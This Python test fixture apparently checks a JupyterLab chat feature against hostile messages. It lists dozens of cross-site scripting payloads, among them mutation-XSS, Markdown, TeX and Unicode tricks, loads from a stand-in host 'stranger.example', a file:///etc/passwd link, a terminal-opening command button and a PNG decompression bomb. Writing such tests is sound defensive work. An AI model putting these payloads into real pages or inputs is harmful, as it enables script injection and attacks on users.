"""What a stranger may send to make the page run a script or ask another host: complete messages, by name.

RUN stands for a script that tells the test which message got through, STRANGER for a host that the page must never ask.
The sources are the usual ones: OWASP's XSS filter evasion cheat sheet, the mutation XSS write-ups around DOMPurify, the
security notes of markdown-it and KaTeX, and Unicode Technical Report 36 for the bidi tricks.
"""

import base64
import json
import struct
import zlib
from typing import Any

STRANGER = "http://stranger.example"
RUN = "top.pwned.push({number})"  # nothing in it that means something in HTML, Markdown or a URL

TEXTS = {
    # HTML
    "script": "<script>RUN</script>",
    "script remote": "<script src=STRANGER/x.js></script>",
    "script split": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script upper": "<SCRIPT>RUN</SCRIPT >",
    "script slash": "<script/x>RUN</script>",
    "script after a tag": "</textarea></title></style></noscript></pre></code><script>RUN</script>",
    "img onerror": "<img src=x onerror=RUN>",
    "img onerror slashes": "<img/src/onerror=RUN>",
    "img quotes": '"\'><img src=x onerror="RUN">',
    "img remote": "<img src=STRANGER/pixel.png>",
    "img srcset": "<img srcset='STRANGER/pixel.png 2x' src=STRANGER/pixel2.png loading=eager>",
    "svg onload": "<svg onload=RUN>",
    "svg script": "<svg><script>RUN</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>click</text></a></svg>",
    "svg use": "<svg><use href='STRANGER/x.svg#x'/></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src='javascript:RUN'></iframe></foreignObject></svg>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:RUN>click</maction></math>",
    "body onload": "<body onload=RUN>",
    "details": "<details open ontoggle=RUN>x</details>",
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "input autofocus": "<input autofocus onfocus=RUN>",
    "video": "<video autoplay onloadstart=RUN><source src=STRANGER/a.mp4 onerror=RUN></video>",
    "audio": "<audio src=STRANGER/a.mp3 autoplay onerror=RUN></audio>",
    "iframe": "<iframe src=STRANGER></iframe>",
    "iframe javascript": "<iframe src='javascript:RUN'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "object": "<object data='javascript:RUN'></object>",
    "embed": "<embed src='data:text/html,<script>RUN</script>'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=STRANGER/'>",
    "base": "<base href='STRANGER/'>",
    "link stylesheet": "<link rel=stylesheet href='STRANGER/x.css'>",
    "link prefetch": "<link rel=prefetch href='STRANGER/x'><link rel=preload as=image href='STRANGER/y'>",
    "style import": "<style>@import url(STRANGER/x.css); * { background: url(STRANGER/pixel.png) }</style>",
    "style attribute": "<p style=\"background: url('STRANGER/pixel.png'); position: fixed; inset: 0\">x</p>",
    "form": "<form action=STRANGER><button id=click autofocus>Log in again</button></form>",
    "clobbering": "<img name=querySelector><form id=pwned><input name=push></form>",
    "custom element": "<x-y onfocus=RUN tabindex=1 autofocus></x-y>",
    "template": "<template><script>RUN</script></template>",
    "conditional comment": "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "processing instruction": "<?xml-stylesheet href='javascript:RUN'?><?x <img src=x onerror=RUN>",
    "cdata": "<![CDATA[<script>RUN</script>]]>",
    "entities": "&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62;",
    "null bytes": "<scr\0ipt>RUN</scr\0ipt><img src=x one\0rror=RUN>",
    "lone surrogate": "\ud800<img src=x onerror=RUN>\udfff",
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    # mutation XSS: harmless when parsed once, not when parsed again
    "mxss noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "mxss style in svg": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "mxss mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "mxss table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "mxss annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style>',
    "mxss listing": "<listing>&lt;img src=x onerror=RUN&gt;</listing><xmp><img src=x onerror=RUN></xmp>",
    # Markdown
    "link javascript": "[click](javascript:RUN)",
    "link javascript case": "[click](JaVaScRiPt:RUN)",
    "link javascript entity": "[click](javascript&colon;RUN) [click](&#106;avascript:RUN) [click](java&Tab;script:RUN)",
    "link javascript control": "[click](\x01javascript:RUN) [click](java\nscript:RUN) [click](<java\tscript:RUN>)",
    "link vbscript": "[click](vbscript:RUN)",
    "link data": "[x](data:text/html,<script>RUN</script>) [x](data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "link file": "[click](file:///etc/passwd) [click](blob:x) [click](view-source:x)",
    "link title": "[click](http://a.example 'x\" onmouseover=\"RUN')",
    "link quote": '[click](http://a.example/"onmouseover="RUN)',
    "link reference": "[click][x]\n\n[x]: javascript:RUN 'x'",
    "autolink": "<javascript:RUN> <data:text/html,<script>RUN</script>>",
    "image": "![x](STRANGER/pixel.png)",
    "image javascript": "![x](javascript:RUN)",
    "image onerror": '![x"onerror="RUN](x)',
    "image reference": "![x][y]\n\n[y]: STRANGER/pixel.png",
    "image in a link": "[![x](STRANGER/pixel.png)](javascript:RUN)",
    "code language": '```"><img src=x onerror=RUN>\nx\n```',
    "code language html": "```html\n<script>RUN</script>\n```",
    "code span": "`<img src=x onerror=RUN>`",
    "table": "| <img src=x onerror=RUN> | [c](javascript:RUN) |\n|---|:-:|\n| <script>RUN</script> | x |",
    "nesting": "> " * 500 + "[" * 2000 + "<script>RUN</script>" + "*" * 2000,
    # TeX, which JupyterLab sets in rendered Markdown
    "tex href": r"$$\href{javascript:RUN}{click}$$ $\href{javascript:RUN}{x}$",
    "tex html": r"\(\htmlData{x=1}{\style{background:url(STRANGER/pixel.png)}{x}}\) \[\class{jp-x}{x}\]",
    "tex image": r"$\includegraphics{STRANGER/pixel.png}$ $\unicode{<img src=x onerror=RUN>}$",
    "tex require": r"$$\require{html}\require{STRANGER/x.js}\def\x{\x\x}\x$$",
    # Unicode
    "bidi override": "\u202ejs.exe\u202c harmless \u2066hidden\u2069 \u200f\u061c",
    "zero width": "java\u200bscript:RUN [click](java\u200bscript:RUN) \ufeff\u2060\u00ad",
    "zalgo": "x" + "\u0301" * 5000,
    "fullwidth": "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "tag characters": "x" + "".join(chr(0xE0000 + code) for code in b"<script>"),
    "line separators": "a\u2028<script>RUN</script>\u2029\x85\x1b[31m\x07",
    # what JupyterLab itself might act on
    "commandlinker": '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>',
    "attachment": "![x](attachment:x.png) <jp-button onclick=RUN>x</jp-button>",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=RUN>"]; click A href "javascript:RUN"\n```',
}

SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned.push('svg')">
<image href="{STRANGER}/pixel.png"/><script>top.pwned.push('svg')</script></svg>""".encode()
HTML = f"<!doctype html><script>top.pwned.push('html')</script><img src={STRANGER}/pixel.png>".encode()
BREAKOUT = "\"'><img src=x onerror=RUN>"


def huge_png() -> bytes:
    """A PNG of a few hundred bytes that says it is 50,000 by 50,000 pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def data_url(mime: str, body: bytes) -> str:
    return f"data:{mime};base64,{base64.b64encode(body).decode()}"


FIELDS: dict[str, dict[str, Any]] = {
    # names
    "name html": {"name": BREAKOUT, "message": "name"},
    "name script": {"name": "<script>RUN</script>", "message": "name"},
    "name bidi": {"name": "\u202egnal\u202c", "message": "name"},
    "name long": {"name": "n" * 100_000, "message": "name"},
    "name newline": {"name": "otter\nkestrel\x1b[2J", "message": "name"},
    "name not a string": {"name": {"toString": "RUN"}, "message": "name"},
    "name proto": {"name": "__proto__", "message": "name"},
    # files
    "file name html": {"type": "file", "fileName": BREAKOUT + ".png", "file": "AAAA"},
    "file name path": {"type": "file", "fileName": "../../../.ipynb_checkpoints/x<svg onload=RUN>", "file": "AAAA"},
    "file name bidi": {"type": "file", "fileName": "photo\u202egnp.exe", "file": "AAAA"},
    "file svg": {"type": "file", "fileName": "x.svg", "file": base64.b64encode(SVG).decode()},
    "file svg as png": {"type": "file", "fileName": "x.png", "file": base64.b64encode(SVG).decode()},
    "file html": {"type": "file", "fileName": "x.html", "file": base64.b64encode(HTML).decode()},
    "file html as gif": {"type": "file", "fileName": "x.gif", "file": base64.b64encode(b"GIF89a" + HTML).decode()},
    "file url": {"type": "file", "fileName": "x.png", "file": STRANGER + "/pixel.png"},
    "file data url": {"type": "file", "fileName": "x.png", "file": data_url("text/html", HTML)},
    "file bomb": {"type": "file", "fileName": "bomb.png", "file": base64.b64encode(huge_png()).decode()},
    # clips
    "audio html": {"type": "audio", "audio": base64.b64encode(HTML).decode()},
    "audio url": {"type": "audio", "audio": STRANGER + "/a.webm"},
    # avatars
    "avatar svg": {"type": "icon", "username": "otter", "avatar": base64.b64encode(SVG).decode()},
    "avatar svg url": {"type": "icon", "username": "otter", "avatar": data_url("image/svg+xml", SVG)},
    "avatar html url": {"type": "icon", "username": "otter", "avatar": data_url("text/html", HTML)},
    "avatar remote": {"type": "icon", "username": BREAKOUT, "avatar": STRANGER + "/pixel.png"},
    "avatar javascript": {"type": "icon", "username": "otter", "avatar": "javascript:RUN"},
    "avatar bomb": {"type": "icon", "username": "otter", "avatar": base64.b64encode(huge_png()).decode()},
    # types and unknown fields
    "type html": {"type": BREAKOUT, "message": BREAKOUT},
    "type unknown": {"type": "call", "url": "javascript:RUN", "html": BREAKOUT, "<script>": "<script>RUN</script>"},
    "unknown fields": {"message": "more fields", "html": BREAKOUT, "__proto__": {"x": 1}, "seq": -1, "own": True},
    "message not a string": {"message": {"innerHTML": BREAKOUT}},
    "timestamp": {"message": "timestamp", "timestamp": BREAKOUT},
    "timestamp infinite": {"message": "timestamp", "timestamp": 1e308},
}


def messages(topic: str) -> dict[str, str]:
    """Every hostile message as one JSON object, by its name. The script of the nth, if it ran, pushes n to `pwned`."""
    plain = {"type": "message", "name": "otter", "topic": topic, "timestamp": 1_700_000_000_000}
    every = {name: {**plain, "message": text} for name, text in TEXTS.items()}
    every |= {name: {**plain, **fields} for name, fields in FIELDS.items()}
    return {
        name: json.dumps(fields).replace("RUN", RUN.format(number=number)).replace("STRANGER", STRANGER)
        for number, (name, fields) in enumerate(every.items())
    }
